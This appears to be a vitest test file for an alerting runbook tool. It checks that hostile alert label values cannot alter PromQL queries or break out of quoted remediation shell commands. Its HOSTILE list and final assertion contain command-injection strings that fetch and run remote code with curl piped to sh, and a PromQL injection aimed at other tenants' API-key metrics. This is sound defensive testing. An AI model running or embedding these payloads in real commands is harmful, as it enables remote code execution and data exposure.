import { parser } from '@prometheus-io/lezer-promql';
import { parse as parseShell } from 'shell-quote';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/core/alert.js';
import type { Entities } from '../../src/core/investigation.js';
import type { ToolResult } from '../../src/core/tool-result.js';
import { entityView } from '../../src/investigator/entity-view.js';
import { evaluateCheck } from '../../src/investigator/evaluate-check.js';
import { renderShell } from '../../src/investigator/render-shell.js';
import { BUILTIN_RUNBOOKS_DIR, loadRunbooks } from '../../src/runbooks/load-runbooks.js';
import type { Runbook } from '../../src/runbooks/runbook-schema.js';
import { createToolbox, type Toolbox } from '../../src/toolsets/create-toolbox.js';
import { ListValue } from '../../src/toolsets/template-values.js';
import { telemetryProfile } from '../../src/toolsets/signals/telemetry-profile.js';
import { fakeKube, fakePrometheus, type FakePrometheus } from '../toolsets/fake-clients.js';

/** What alert labels from many teams and tenant-controlled metrics can hold. */
const HOSTILE = [
  'zz"}[5m])) * 60 or sum by (api_key_alias, end_user, team) (rate(litellm_proxy_total_requests_metric_total{team=~".+"}[5m])) * 60 #',
  "o'brien\\",
  'a`b',
  '.*',
  'x|.*',
  'line\nbreak\r\ttab',
  '$(curl -s http://203.0.113.9/x | sh)',
  'code-complete; curl -s http://203.0.113.9/x | sh; echo ',
  '{{namespace}}',
  '} or vector(1) {',
  'ip-10-0-1-23.ec2.internal',
  '\u202egnp.exe \u{1F525} é',
  `${'a'.repeat(10_240)}"`,
];
const BENIGN = 'benign-value';
const PROBE = 'zz-other-tenant-0';
const NOW = new Date('2026-12-02T12:00:00Z');

function entitiesWith(value: string): Entities {
  return {
    alertname: 'HostileAlert',
    namespace: value,
    service: value,
    workload: { kind: 'Deployment', name: value },
    pods: [
      { namespace: value, name: value, node: value },
      { namespace: value, name: 'chat-api-7d9f8b6c5-x2k4q', node: 'gpu-node-1' },
    ],
    containers: [value],
    nodes: [value, 'gpu-node-1'],
    gpus: [{ node: value, gpu: '0', uuid: value }],
    model: value,
    team: value,
    apiKey: value,
    hpa: value,
    notes: [],
    unresolved: [],
  };
}

function alertWith(value: string): Alert {
  return {
    fingerprint: '0123456789abcdef',
    status: 'firing',
    labels: { alertname: 'HostileAlert', namespace: value },
    annotations: {},
    startsAt: new Date(NOW.getTime() - 20 * 60_000).toISOString(),
  };
}

/** The query's syntax tree as node names only: what a value may never change. */
function shape(query: string): { nodes: string[]; errors: number; matchers: Array<{ op: string; value: string }> } {
  const nodes: string[] = [];
  const matchers: Array<{ op: string; value: string }> = [];
  let errors = 0;
  let op = '';
  parser.parse(query).iterate({
    enter: (node) => {
      if (node.type.isError) errors += 1;
      if (node.name === 'LineComment') errors += 1; // a comment can only come from a value
      nodes.push(node.name);
      if (node.name === 'MatchOp') op = query.slice(node.from, node.to);
      if (node.name === 'StringLiteral' && op) {
        matchers.push({ op, value: query.slice(node.from, node.to) });
        op = '';
      }
    },
  });
  return { nodes, errors, matchers };
}

/** A PromQL string literal's value, read as Prometheus reads it (Go escapes; raw backtick strings). */
function unquote(literal: string): string {
  if (literal.startsWith('`')) return literal.slice(1, -1);
  return literal
    .slice(1, -1)
    .replace(/\\(x[0-9a-f]{2}|.)/gs, (_, escape: string) =>
      escape.startsWith('x')
        ? String.fromCharCode(Number.parseInt(escape.slice(1), 16))
        : (({ n: '\n', t: '\t', r: '\r' } as Record<string, string>)[escape] ?? escape),
    );
}

/** A PromQL regex as Prometheus applies it: anchored, with an optional (?i) prefix. */
function promRegex(pattern: string): RegExp {
  const insensitive = pattern.startsWith('(?i)');
  return new RegExp(`^(?:${insensitive ? pattern.slice(4) : pattern})$`, insensitive ? 'is' : 's');
}

async function queriesOf(runbooks: Runbook[], value: string, prometheus: FakePrometheus, toolbox: Toolbox) {
  const byCheck = new Map<string, string[]>();
  const entities = entitiesWith(value);
  const view = entityView(entities, alertWith(value), NOW);
  const scope = { view, entities, now: NOW, alertStartMs: NOW.getTime() - 20 * 60_000, windowMs: 35 * 60_000 };
  for (const runbook of runbooks) {
    for (const check of runbook.checks) {
      const before = prometheus.queries.length;
      await evaluateCheck(runbook.id, check, scope, toolbox, new Map<string, Promise<ToolResult>>());
      byCheck.set(`${runbook.id}/${check.id}`, prometheus.queries.slice(before));
    }
  }
  return byCheck;
}

describe('hostile alert labels', () => {
  let runbooks: Runbook[];
  let prometheus: FakePrometheus;
  let toolbox: Toolbox;

  beforeAll(async () => {
    runbooks = (await loadRunbooks([BUILTIN_RUNBOOKS_DIR])).runbooks;
    prometheus = fakePrometheus({
      metricNames: [
        'container_gpu_allocation',
        'litellm_spend_metric_total',
        'node_infiniband_port_transmit_wait_total',
        'DCGM_FI_DEV_GPU_UTIL',
        'vllm:num_requests_running',
        // cAdvisor's CFS counters: cpu-throttling's check reads them through signal_change.
        'container_cpu_cfs_throttled_periods_total',
        'container_cpu_cfs_periods_total',
      ],
    });
    toolbox = await createToolbox({ prometheus, kube: fakeKube(), now: () => NOW });
    // The telemetry profile is read once per source and kept: read it here, not inside the first check measured.
    await telemetryProfile(prometheus, NOW);
  });

  it('leave the syntax of every query of every check as it is with a benign value, and select only themselves', async () => {
    const benign = await queriesOf(runbooks, BENIGN, prometheus, toolbox);
    expect([...benign.values()].flat().length).toBeGreaterThan(30);
    const problems: string[] = [];
    for (const value of HOSTILE) {
      const hostile = await queriesOf(runbooks, value, prometheus, toolbox);
      for (const [check, queries] of hostile) {
        const expected = benign.get(check)!;
        // A value that cannot be placed safely makes the check unavailable: fewer queries, never other ones.
        if (queries.length !== expected.length) {
          if (queries.length > 0)
            problems.push(`${check}: ran ${queries.length} queries instead of ${expected.length}`);
          continue;
        }
        queries.forEach((query, index) => {
          const got = shape(query);
          const want = shape(expected[index]!);
          if (got.errors > 0) problems.push(`${check}: does not parse with ${JSON.stringify(value.slice(0, 30))}`);
          else if (got.nodes.join(' ') !== want.nodes.join(' '))
            problems.push(`${check}: syntax changed by ${JSON.stringify(value.slice(0, 30))}`);
          for (const matcher of got.matchers) {
            if (matcher.op !== '=~' && matcher.op !== '!~') continue;
            const regex = promRegex(unquote(matcher.value));
            if (
              matcher.op === '=~' &&
              regex.test(PROBE) &&
              !promRegex(unquote(want.matchers.find((m) => m.op === '=~')!.value)).test(PROBE)
            )
              problems.push(
                `${check}: a regex matcher built from ${JSON.stringify(value.slice(0, 30))} also matches ${PROBE}`,
              );
          }
        });
      }
    }
    expect(problems).toEqual([]);
  }, 240_000); // Every check of every runbook, once per hostile value: real work, slow on a busy machine.

  it('a value in a regex matcher matches exactly itself, also when it is full of regex syntax', async () => {
    for (const value of HOSTILE) {
      const hostile = await queriesOf(
        runbooks.filter((runbook) => runbook.id === 'cpu-throttling'),
        value,
        prometheus,
        toolbox,
      );
      // The throttling query itself (the first call of a run may also read the telemetry profile).
      const query = hostile.get('cpu-throttling/throttled')!.find((item) => item.includes('container_cpu_cfs'))!;
      const pod = shape(query).matchers.find((matcher) => matcher.op === '=~')!;
      const regex = promRegex(unquote(pod.value));
      // Pods reach signal_change as a `names` parameter, which trims the whitespace no Kubernetes name has.
      expect(regex.test(value.trim())).toBe(true);
      expect(regex.test(`${value}x`)).toBe(false);
    }
  });

  it('make every remediation command one quoted shell word per value, and show an invalid name as such', () => {
    const problems: string[] = [];
    for (const runbook of runbooks) {
      for (const step of runbook.remediation) {
        if (!step.command) continue;
        const names = [...step.command.matchAll(/\{\{\s*([#^/]?)\s*([\w.]+)\s*\}\}/g)]
          .filter((m) => !m[1])
          .map((m) => m[2]!);
        const viewFor = (value: string) => {
          const view: Record<string, unknown> = { ...entityView(entitiesWith(value), alertWith(value), NOW) };
          // Facts a command uses come from sources (Prometheus labels, objects): hostile too.
          for (const name of names) if (!(name in view)) view[name] = new ListValue([value]);
          return view;
        };
        const benign = parseShell(renderShell(step.command, viewFor(BENIGN)));
        for (const value of HOSTILE) {
          const rendered = renderShell(step.command, viewFor(value));
          const tokens = parseShell(rendered);
          // Operators and comments, by kind: a value may change what a comment says, never where it ends.
          const operators = (list: typeof tokens) =>
            list
              .filter((token) => typeof token === 'object')
              .map((token) => ('comment' in token ? '#' : JSON.stringify(token)));
          if (operators(tokens).join() !== operators(benign).join())
            problems.push(
              `${runbook.id} "${step.title}": ${JSON.stringify(value.slice(0, 30))} changed the command's operators`,
            );
          if (tokens.length !== benign.length)
            problems.push(
              `${runbook.id} "${step.title}": ${JSON.stringify(value.slice(0, 30))} changed the number of words`,
            );
        }
      }
    }
    expect(problems).toEqual([]);
    const command = renderShell('kubectl -n {{namespace}} set resources deployment/{{workload}}', {
      ...entityView(entitiesWith('code-complete; curl -s http://203.0.113.9/x | sh; echo '), alertWith('x'), NOW),
    });
    expect(parseShell(command)).toEqual([
      'kubectl',
      '-n',
      '<invalid name: code-complete; curl -s http://203.0.113.9/x | sh; echo >',
      'set',
      'resources',
      'deployment/<invalid name: code-complete; curl -s http://203.0.113.9/x | sh; echo >',
    ]);
  });
});
